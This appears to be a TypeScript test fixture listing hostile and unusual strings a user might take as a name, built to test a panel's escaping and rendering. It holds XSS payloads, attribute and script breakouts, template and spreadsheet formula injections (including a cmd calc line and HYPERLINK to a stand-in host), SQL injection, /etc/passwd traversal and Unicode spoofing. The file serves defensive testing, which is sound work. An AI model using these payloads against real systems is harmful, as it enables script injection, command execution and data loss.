// What somebody may call themselves who means harm, or who only has an unusual name. Where a string could run, it
// calls hostileRan(), which a test provides and which nothing of the panel calls.

/** They want to be read as elements, as scripts, or as what closes the element they stand in. */
const markup = [
  "<script>hostileRan()</script>",
  "<ScRiPt>hostileRan()</sCrIpT>",
  "<script src=//foreign.example/a.js></script>",
  "<script type=module>import('//foreign.example/b.js')</script>",
  "<scr<script>ipt>hostileRan()</scr</script>ipt>",
  "</script><script>hostileRan()</script>",
  "</title><script>hostileRan()</script>",
  "</textarea><script>hostileRan()</script>",
  "</style><script>hostileRan()</script>",
  "</noscript><script>hostileRan()</script>",
  "--><script>hostileRan()</script><!--",
  "]]><script>hostileRan()</script>",
  "<img src=x onerror=hostileRan()>",
  "<img src=//foreign.example/pixel.gif>",
  "<img srcset='//foreign.example/1.gif 1x'>",
  "<image href=x onerror=hostileRan()>",
  "<svg onload=hostileRan()>",
  "<svg><script>hostileRan()</script></svg>",
  "<svg><animate onbegin=hostileRan() attributeName=x dur=1s>",
  "<svg><a xlink:href='javascript:hostileRan()'><text y=20>press</text></a></svg>",
  "<svg><use href='//foreign.example/i.svg#a'/></svg>",
  "<svg><foreignObject><body onload=hostileRan()></foreignObject></svg>",
  "<math><mtext><img src=x onerror=hostileRan()></mtext></math>",
  "<math><a xlink:href=javascript:hostileRan()>press",
  "<iframe srcdoc='<script>parent.hostileRan()</script>'></iframe>",
  "<iframe src=javascript:parent.hostileRan()></iframe>",
  "<object data=javascript:hostileRan()></object>",
  "<embed src=//foreign.example/e.swf>",
  "<body onload=hostileRan()>",
  "<details open ontoggle=hostileRan()>",
  "<video><source onerror=hostileRan()></video>",
  "<audio src=//foreign.example/a.mp3 autoplay>",
  "<input autofocus onfocus=hostileRan()>",
  "<select autofocus onfocus=hostileRan()><option>a</select>",
  "<marquee onstart=hostileRan()>round</marquee>",
  "<a href=javascript:hostileRan()>press me</a>",
  "<a href='//foreign.example/' target=_top>press me</a>",
  "<form action=//foreign.example/><button>Save</button></form>",
  "<base href=//foreign.example/>",
  "<meta http-equiv=refresh content='0;url=//foreign.example/'>",
  "<link rel=stylesheet href=//foreign.example/s.css>",
  "<style>@import '//foreign.example/s.css';</style>",
  "<style>*{display:none!important}</style>",
  "<div style='position:fixed;inset:0;z-index:9999;background:red'>gone",
  "<template><script>hostileRan()</script></template>",
  "<noscript><p title='</noscript><img src=x onerror=hostileRan()>'>",
  "<!--<img src='--><img src=x onerror=hostileRan()>'>",
  "<x onclick=hostileRan() tabindex=1 autofocus>press me</x>",
  "<b>bold</b><i>slanted",
  "<table><tr><td></table></table>",
] as const;

/** They want to end the attribute, the string or the address in which they stand. */
const quoting = [
  "\" onmouseover=\"hostileRan()",
  "' onmouseover='hostileRan()",
  "\" autofocus onfocus=hostileRan() x=\"",
  "\"><script>hostileRan()</script>",
  "'><script>hostileRan()</script>",
  "`onmouseover=hostileRan()`",
  "javascript:hostileRan()",
  "JaVaScRiPt:hostileRan()//",
  "java\tscript:hostileRan()",
  "javascript://foreign.example/%0ahostileRan()",
  "data:text/html,<script>hostileRan()</script>",
  "vbscript:hostileRan()",
  "//foreign.example/path",
  "https://foreign.example/?a=1&b=2#c",
  "'-hostileRan()-'",
  "\\\"-hostileRan()}//",
  "';hostileRan();//",
  "\");hostileRan();//",
  "{\"__proto__\":{\"hostile\":true}}",
  "../../../../etc/passwd",
  "'; DROP TABLE member; --",
] as const;

/** They want to be read as a place in a text, a template or an entity. */
const templates = [
  "{{constructor.constructor('hostileRan()')()}}",
  "${hostileRan()}",
  "#{hostileRan()}",
  "<%= hostileRan() %>",
  "{name}",
  "{0}",
  "{count, plural, one {#} other {#}}",
  "<0/>",
  "<0>first</0>",
  "</0>",
  "'{'quoted'}'",
  "%s %d %n %x",
  "$& $1 $$",
  "\\u0041\\x42\\u202eC",
  "&lt;script&gt;hostileRan()&lt;/script&gt;",
  "&#60;img src=x onerror=hostileRan()&#62;",
  "&amp;amp;&nbsp;&shy;&zwj;",
  "[press](javascript:hostileRan())",
] as const;

/** They want to be a formula in a spreadsheet that opens an export. */
export const formulas = [
  "=HYPERLINK(\"//foreign.example/\"&A1,\"press\")",
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "a\",\"b\n=1+1",
  "\t=1+1",
  "＝1+1",
] as const;

/** They turn the words around them, hide, or look like something else. */
const writing = [
  "ליאור כהן",
  "عبد الرحمن 42",
  "Ana (ליאור) Ruiz",
  "invoice\u202egpj.exe",
  "\u202dforced\u202c and \u202bembedded",
  "\u2067left open",
  "\u2069\u202eclosed what it had not opened",
  "\u2068\u2069\u2069\u2069\u202e three too many",
  "\u200fmark\u200e and mark\u061c",
  "zero\u200bwidth\u200cspace\u200d\u2060here\ufeff",
  "soft\u00adhy\u00adphens",
  "a\u2028line\u2029paragraph",
  "Z\u0351\u036b\u0343a\u0329\u0348\u0363l\u030a\u033b\u036dg\u0334\u0359o\u0321\u0353\u0358",
  "👩‍👩‍👧‍👦🏳️‍🌈",
  "ｓｃｒｉｐｔ＞hostileRan（）",
  "аdministrator", // the first letter is Cyrillic
  "ﷺ﷽",
  "ﬁnancial ſtaff Ⅷ",
] as const;

/** They are taken for nothing, or for something that every object has. */
const nothings = [
  "null",
  "undefined",
  "NaN",
  "true",
  "[object Object]",
  "0",
  "-0",
  "1e999",
  "__proto__",
  "constructor",
  "toString",
  "hasOwnProperty",
  ".",
  "..",
  "?",
  "#",
  "%",
  "%00",
] as const;

/** They find no place to break. */
const long = [
  `W${"i".repeat(150)}de`,
  `${"averylongwordwithoutanyspace".repeat(10)}`,
  `${"Hafnarfjarðar".repeat(20)}`,
  `https://foreign.example/${"path/".repeat(40)}`,
  `${"many short words ".repeat(15)}`.trim(),
] as const;

export const hostile: readonly string[] = [
  ...markup,
  ...quoting,
  ...templates,
  ...formulas,
  ...writing,
  ...nothings,
  ...long,
];

/** One of each kind, for pages of which each shows few. */
export const telling: readonly string[] = [
  "<script>hostileRan()</script>",
  "<img src=x onerror=hostileRan()>",
  "\"><script>hostileRan()</script>",
  "javascript:hostileRan()",
  "<0/>",
  "\\u0041\\x42\\u202eC",
  "ליאור כהן",
  "عبد الرحمن 42",
  "__proto__",
  "constructor",
  long[0],
  long[3],
];

/** Attributes that an object has already. */
export const inherited = ["__proto__", "constructor", "toString", "hasOwnProperty", "valueOf"] as const;
